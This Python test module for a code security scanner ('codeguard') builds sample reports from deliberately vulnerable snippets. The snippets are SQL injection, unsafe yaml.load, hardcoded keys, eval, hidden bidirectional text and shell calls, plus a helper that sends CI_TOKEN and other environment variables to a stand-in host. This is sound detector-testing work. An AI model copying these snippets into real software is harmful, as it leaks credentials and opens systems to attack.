"""Reports for the tests of report formats: one realistic report with every case, and strategies for any report."""

from __future__ import annotations

from dataclasses import replace
from zlib import crc32

from hypothesis import settings
from hypothesis import strategies as st

from codeguard.model import (
    Category,
    Confidence,
    Dismissed,
    Edit,
    EngineRun,
    Failure,
    FailureKind,
    FileRecord,
    FileStatus,
    Finding,
    Fix,
    Profile,
    Reason,
    Report,
    Risk,
    Rule,
    Safety,
    Severity,
    Span,
    Step,
    Suppressed,
)

SECRET = "sk-live-4f9a8c1d7e2b"  # made up for these tests

VIEWS = """\
'''Search pages.'''

from flask import Flask, request

from app import db

app = Flask(__name__)


@app.get("/users")
def users():
    name = request.args["name"]
    order = request.args.get("order", "id")
    return render(db.find_users(name, order))
"""

DB = """\
import sqlite3


def find_users(name, order):
    connection = sqlite3.connect("app.db")
    query = f"SELECT * FROM users WHERE name = '{name}' ORDER BY {order}"
    return connection.execute(query).fetchall()
"""

SETTINGS = f"""\
DEBUG = True
API_KEY = "{SECRET}"
PAYMENT = {{"token": "{SECRET}", "retries": 3}}


def client():
    return connect(api_key="{SECRET}", timeout=5)
"""

LOADER = """\
import yaml


def load(stream):
\tif stream:
\t\treturn yaml.load(stream)  # naïve
\treturn None
"""

HELPER = """\
import base64, os, urllib.request

payload = {
    "home": os.environ.get("HOME"),
    "token": os.environ.get("CI_TOKEN"),
    "user": os.getlogin(),
    "cwd": os.getcwd(),
    "path": os.environ.get("PATH"),
    "shell": os.environ.get("SHELL"),
    "lang": os.environ.get("LANG"),
}
urllib.request.urlopen(
    "https://collect.example.invalid/x",
    data=base64.b64encode(repr(payload).encode()),
)
"""

WIDE = """\
名前 = input("名前を入力してください: ")
résumé = "e\u0301te\u0301"; 結果 = eval(名前)  # 評価する
"""

BIDI = """\
def is_admin(user):
    # allow only staff \u202e } if user.staff \u2066 return True \u2069
    return user.role == "admi\u200bn"  # \x1b[2K\x07 ok
"""

MINIFIED = "data=[" + ",".join(str(n) for n in range(400)) + "];exec(data[7]);" + "x=1;" * 300 + "\n"

BROKEN = "def area(radius):\n    return 3.14 * radius **\n"

TEXTS = {
    "app/views.py": VIEWS,
    "app/db.py": DB,
    "app/settings.py": SETTINGS,
    "app/loader.py": LOADER,
    "tools/helper.py": HELPER,
    "docs/例/résumé.py": WIDE,
    "app/roles.py": BIDI,
    "vendor/min.py": MINIFIED,
    "drafts/area.py": BROKEN,
    "data/caf\udce9 #1?.py": "import os\nos.system(cmd)\n",
}


def span_of(text: str, needle: str, nth: int = 1) -> Span:
    """The span of the n-th occurrence of a piece of text."""
    at = -1
    for _ in range(nth):
        at = text.index(needle, at + 1)
    end = at + len(needle)
    return Span(
        text.count("\n", 0, at) + 1,
        at - (text.rfind("\n", 0, at) + 1),
        text.count("\n", 0, end) + 1,
        end - (text.rfind("\n", 0, end) + 1),
    )


def _rule(rule_id: str, name: str, summary: str, category: Category, severity: Severity, **more: object) -> Rule:
    rule = Rule(rule_id, name, summary, category, severity, Confidence.HIGH, "native")
    return replace(rule, **more)  # type: ignore[arg-type]


HELP = """\
Text that is put into a query becomes part of it: whoever sends it can read or change any row.

## Bad

```python
cursor.execute(f"SELECT * FROM users WHERE name = '{name}'")
```

## Good

```python
cursor.execute("SELECT * FROM users WHERE name = ?", (name,))
```
"""

S, M, C, T = Category.SECURITY, Category.MALICIOUS, Category.CORRECTNESS, Category.STANDARDS

RULES = {
    rule.id: rule
    for rule in (
        _rule(
            "CGS101", "sql-from-text", "A query is built from untrusted text.", S, Severity.CRITICAL,
            cwe=(89, 943), aliases=("bandit:B608",), help=HELP, tags=("sql", "injection"),
        ),
        _rule("CGS012", "unsafe-yaml-load", "`yaml.load` without a safe loader builds any object.", S, Severity.HIGH,
              cwe=(502,), aliases=("bandit:B506",), help="Use `yaml.safe_load`."),
        _rule("CGS201", "hardcoded-secret", "A secret stands in the source.", S, Severity.HIGH, cwe=(798, 259)),
        _rule("CGM010", "environment-sent-out", "The environment is sent to another machine.", M, Severity.CRITICAL,
              cwe=(506, 200)),
        _rule("CGS095", "eval-of-input", "Input is run as code.", S, Severity.CRITICAL, cwe=(95, 94)),
        _rule("CGM030", "bidirectional-control", "Text is shown in another order than it runs.", M, Severity.HIGH,
              cwe=(1007,)),
        _rule("CGC001", "does-not-parse", "The file is not Python.", C, Severity.HIGH),
        _rule("CGT010", "missing-docstring", "A public function has no docstring.", T, Severity.INFO,
              profile=Profile.STRICT),
        _rule("bandit:B605", "start_process_with_a_shell", "A process is started with a shell.", S, Severity.MEDIUM,
              engine="bandit", confidence=Confidence.MEDIUM, cwe=(78,)),
    )
}  # fmt: skip


def _finding(rule_id: str, path: str, needle: str, message: str, nth: int = 1, **more: object) -> Finding:
    rule, span = RULES[rule_id], span_of(TEXTS[path], needle, nth)
    finding = Finding(
        rule_id=rule_id,
        path=path,
        span=span,
        message=message,
        category=rule.category,
        severity=rule.severity,
        confidence=rule.confidence,
        engine=rule.engine,
        cwe=rule.cwe,
        seen_by=(f"{rule.engine}:{rule_id.rpartition(':')[2]}",),
        snippet=TEXTS[path].split("\n")[span.start_line - 1].strip(),
        fingerprint=f"{crc32(repr((rule_id, path, needle, nth)).encode()):08x}",
    )
    return replace(finding, **more)  # type: ignore[arg-type]


def _step(path: str, needle: str, message: str) -> Step:
    span = span_of(TEXTS[path], needle)
    return Step(path, span, message, TEXTS[path].split("\n")[span.start_line - 1].strip())


SQL = _finding(
    "CGS101",
    "app/db.py",
    "connection.execute(query)",
    "`request.args` reaches the text of an SQL query through `find_users`: whoever sends it reads or changes any row",
    trace=(
        _step("app/views.py", 'request.args["name"]', "a request argument is untrusted"),
        _step("app/views.py", "db.find_users(name, order)", "is passed as `name` to `find_users`"),
        _step(
            "app/db.py", "f\"SELECT * FROM users WHERE name = '{name}' ORDER BY {order}\"", "becomes part of `query`"
        ),
        _step("app/db.py", "connection.execute(query)", "is run as SQL"),
    ),
    fix=Fix("Pass the values as parameters: `execute(query, (name,))`"),
    seen_by=("native:CGS101", "bandit:B608", "semgrep:sql-text"),
)
YAML = _finding(
    "CGS012",
    "app/loader.py",
    "yaml.load(stream)",
    "`yaml.load` without a safe loader runs code in its input",
    fix=Fix(
        "Use `yaml.safe_load`",
        edits=(Edit(span_of(LOADER, "yaml.load"), "yaml.safe_load"),),
        safety=Safety.SAFE,
    ),
    seen_by=("native:CGS012", "bandit:B506"),
)
SECRETS = (
    _finding("CGS201", "app/settings.py", f'"{SECRET}"', f"The key '{SECRET}' stands in the source"),
    _finding("CGS201", "app/settings.py", f'connect(api_key="{SECRET}", timeout=5)', "`connect` gets a literal key",
             fix=Fix("Read it from the environment", (Edit(span_of(SETTINGS, f'"{SECRET}"', 3), 'environ["KEY"]'),),
                     ("os:environ",), Safety.UNSAFE)),
)  # fmt: skip
FINDINGS = (
    SQL,
    YAML,
    *SECRETS,
    _finding("CGM010", "tools/helper.py", HELPER[HELPER.index("payload = {") : HELPER.index("\nurllib.request.url")],
             "Environment variables and the login name are collected and sent to `collect.example.invalid`",
             trace=(_step("tools/helper.py", 'os.environ.get("CI_TOKEN")', "a token is read"),)),
    _finding("CGS095", "docs/例/résumé.py", "eval(名前)", "`input()` is run as code by `eval`"),
    _finding("CGM030", "app/roles.py", "\u202e", "The comment hides code behind \u202e bidirectional controls"),
    _finding("CGS095", "vendor/min.py", "exec(data[7])", "`data[7]` is run as code by `exec`",
             confidence=Confidence.LOW),
    _finding("CGC001", "drafts/area.py", "\n", "The expression after `**` is missing: the file does not compile", 2),
    _finding("CGT010", "app/views.py", "users", "`users` has no docstring", 2),
    _finding("bandit:B605", "data/caf\udce9 #1?.py", "os.system(cmd)", "Starting a process with a shell",
             cwe=(78, 88)),
)  # fmt: skip

DISMISSED_STEP = Step("app/db.py", span_of(DB, '"app.db"'), "the argument is a constant", 'sqlite3.connect("app.db")')


def sample() -> Report:
    """A report with every case: all categories, traces, fixes, secrets, odd names, hidden text, failures."""
    return Report(
        root="/srv/checkout",
        findings=FINDINGS,
        files=(
            *(FileRecord(path, FileStatus.ANALYSED, "", text.count("\n"), len(text)) for path, text in TEXTS.items()
              if path != "drafts/area.py"),
            FileRecord("drafts/area.py", FileStatus.PARTIAL, "does not parse after line 1", 2, len(BROKEN)),
            FileRecord("drafts/noise.py", FileStatus.UNPARSABLE, "not Python at all", 9, 200),
            FileRecord("build/gen.py", FileStatus.SKIPPED, "ignored by .gitignore", 0, 1200),
            FileRecord("data/huge.py", FileStatus.TIMED_OUT, "10 s", 0, 9_000_000),
            FileRecord("data/locked.py", FileStatus.FAILED, "permission denied", 0, 0),
        ),
        rules=RULES,
        suppressed=(
            Suppressed(_finding("bandit:B605", "data/caf\udce9 #1?.py", "os.system", "Starting a process with a shell"),
                       "nosec", 2, "B605", "input is a constant"),
            Suppressed(_finding("CGS101", "app/db.py", "execute", "SQL from text"), "codeguard", 7, "CGS101", ""),
        ),
        dismissed=(
            Dismissed(_finding("CGS101", "app/db.py", "sqlite3.connect", "Possible injection through `connect`"),
                      'the argument is the constant `"app.db"`', (DISMISSED_STEP,)),
        ),
        failures=(
            Failure("data/locked.py", "native", FailureKind.UNREADABLE, "permission denied"),
            Failure("data/huge.py", "native", FailureKind.TIMEOUT, "no answer after 10 s", line=7),
            Failure(None, "semgrep", FailureKind.ENGINE_MISSING, "semgrep-core was not found"),
            Failure("drafts/noise.py", "bandit", FailureKind.NOT_SCANNED, "its parser\n cannot \x1b[31mread it", fatal=False),
        ),
        engines=(
            EngineRun("native", "0.1.0", 0.412, 14, 14),
            EngineRun("bandit", "1.9.4", 0.3, 14, 13, "1 file not read"),
            EngineRun("ruff", "0.17.6", 0.02, 14, 14),
        ),
        seconds=1.234,
        version="0.1.0",
        started="2026-11-24T10:00:00Z",
        risks=(
            Risk("data/caf\udce9 #1?.py", 97, "dangerous", "This file would run what \x1b[31m another host sends.",
                 (Reason("run what another host sends", "CGM005", "data/caf\udce9 #1?.py", 2, 90),
                  Reason("mine crypto-currency", "CGM010", "app/db.py", 7, 7))),
        ),
        texts=TEXTS,
    )  # fmt: skip


def clean() -> Report:
    """A complete scan that found nothing."""
    files = tuple(FileRecord(path, FileStatus.ANALYSED, "", 10, 100) for path in ("a.py", "b.py"))
    return Report("/srv/checkout", (), files, {}, version="0.1.0", started="2026-11-24T10:00:00Z")


few = settings(deadline=None, max_examples=25)  # for properties of whole reports, which take long to draw

# Any report: hostile text, spans that point outside their files, rules that are not there.

_HOSTILE = st.sampled_from(
    ["", "\x1b[31m", "\u202e", "\udcff", "\ud83d", "\U0001f600", "\x00", "\x7f", "\u200b", "漢", "e\u0301", "\r", "\t",
     "\x85", "\u2028", "'", '"""', "`", "{0}", "[a](1)", "\\", "%", "/", "\ufeff", "\n"]
)  # fmt: skip
texts = st.lists(st.one_of(_HOSTILE, st.text(max_size=8)), max_size=6).map("".join)
paths = st.lists(st.one_of(_HOSTILE, st.text(max_size=5)), min_size=1, max_size=3).map(lambda p: "p" + "".join(p))
sources = st.lists(
    st.one_of(_HOSTILE, st.sampled_from(["\n", "\r\n", "x = 1\n", "key = 'hunter2hunter2'\n", "a" * 300])), max_size=12
).map("".join)
numbers = st.integers(0, 12)


@st.composite
def spans(draw: st.DrawFn) -> Span:
    """Spans that are in order, inside a file or not."""
    start_line, start_col = draw(st.integers(1, 9)), draw(st.integers(0, 400))
    end_line = start_line + draw(st.integers(0, 9))
    end_col = draw(st.integers(start_col if end_line == start_line else 0, 500))
    return Span(start_line, start_col, end_line, end_col)


cwes = st.lists(st.sampled_from([79, 89, 798, 259, 321, 20, 99999]), max_size=3, unique=True).map(tuple)
steps = st.builds(Step, paths, spans(), texts, texts)
fixes = st.builds(
    Fix,
    texts,
    st.lists(st.builds(Edit, spans(), texts), max_size=2).map(tuple),
    st.lists(texts, max_size=2).map(tuple),
    st.sampled_from(Safety),
)
rule_ids = st.sampled_from(["CGS001", "CGM001", "bandit:B101", "ruff:S\u202e1"])
findings = st.builds(
    Finding,
    rule_id=rule_ids,
    path=paths,
    span=spans(),
    message=texts,
    category=st.sampled_from(Category),
    severity=st.sampled_from(Severity),
    confidence=st.sampled_from(Confidence),
    engine=st.sampled_from(["native", "bandit"]),
    cwe=cwes,
    seen_by=st.lists(texts, max_size=3).map(tuple),
    snippet=texts,
    trace=st.lists(steps, max_size=3).map(tuple),
    fix=st.none() | fixes,
    fingerprint=texts,
)
rules = st.builds(
    Rule,
    id=rule_ids,
    name=texts,
    summary=texts,
    category=st.sampled_from(Category),
    severity=st.sampled_from(Severity),
    confidence=st.sampled_from(Confidence),
    engine=texts,
    cwe=cwes,
    aliases=st.lists(texts, max_size=2).map(tuple),
    profile=st.sampled_from(Profile),
    help=texts,
    tags=st.lists(texts, max_size=25).map(tuple),
    off_because=st.none() | texts,
)
failures = st.builds(Failure, st.none() | paths, texts, st.sampled_from(FailureKind), texts, st.booleans(), numbers)


@st.composite
def reports(draw: st.DrawFn) -> Report:
    """Any report; most findings are in files whose text is known."""
    known = draw(st.dictionaries(paths, sources, max_size=3))
    found = st.lists(findings, max_size=4)
    placed = [
        replace(finding, path=draw(st.sampled_from(sorted(known)))) if known and draw(st.booleans()) else finding
        for finding in draw(found)
    ]
    others = draw(st.lists(findings, max_size=2))
    return Report(
        root=draw(paths),
        findings=tuple(placed),
        files=tuple(draw(st.lists(st.builds(FileRecord, paths, st.sampled_from(FileStatus), texts, numbers, numbers), max_size=3))),
        rules={rule.id: rule for rule in draw(st.lists(rules, max_size=3))},
        suppressed=tuple(Suppressed(f, draw(texts), draw(numbers), draw(texts), draw(texts)) for f in others[:1]),
        dismissed=tuple(Dismissed(f, draw(texts), draw(st.lists(steps, max_size=1).map(tuple))) for f in others[1:]),
        failures=tuple(draw(st.lists(failures, max_size=3))),
        engines=tuple(draw(st.lists(st.builds(EngineRun, texts, texts, st.just(0.5), numbers, numbers, texts), max_size=2))),
        seconds=draw(st.floats(0, 1e6)),
        version=draw(st.sampled_from(["0.1.0", "", "1.0.0rc1"])),
        started=draw(st.sampled_from(["2026-11-24T10:00:00Z", "", "yesterday"])),
        interrupted=draw(st.booleans()),
        texts=known,
    )  # fmt: skip
